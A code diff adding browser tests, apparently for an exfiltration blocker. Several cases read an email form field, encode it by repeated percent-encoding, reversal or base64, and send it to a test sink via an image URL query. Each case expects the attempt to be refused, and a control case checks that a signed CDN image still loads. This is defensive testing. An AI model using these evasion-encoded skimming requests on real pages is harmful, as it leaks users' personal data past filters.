@@ -91,3 +91,25 @@ describe('CSS strings and loaders that must still work', function () {
     expect(await arrived()).to.deep.equal(['GET /chime.mp3', 'GET /hero.png']);
   });
 });
+
+describe('field data sent in an encoding the earlier rounds did not undo', function () {
+  this.timeout(20_000);
+  const email = () => (document.querySelector('#email') as HTMLInputElement).value;
+  const cases: Array<[string, (value: string) => string]> = [
+    ['percent-encoded twice (%2540)', (value) => encodeURIComponent(encodeURIComponent(value))],
+    ['percent-encoded three times', (value) => encodeURIComponent(encodeURIComponent(encodeURIComponent(value)))],
+    ['reversed (moc.elpmaxe@ada)', (value) => [...value].reverse().join('')],
+    ['reversed, then base64', (value) => btoa([...value].reverse().join(''))],
+  ];
+  for (const [name, encode] of cases) {
+    it(`the email in a picture's query, ${name}`, async () => {
+      await refused(await attack({ page, setup: onSave(() => (new Image().src = sink.url(`/p.gif?v=${encode(email())}`))) }));
+    });
+  }
+
+  it("a CDN's signed picture (a %2B and %2F in its signature) still loads", async () => {
+    const run = await attack({ page, setup: onSave(() => (new Image().src = sink.url('/photo.jpg?w=600&sig=Xk9%2BqL2%2Fz7PmA%2B1'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /photo.jpg']);
+  });
+});
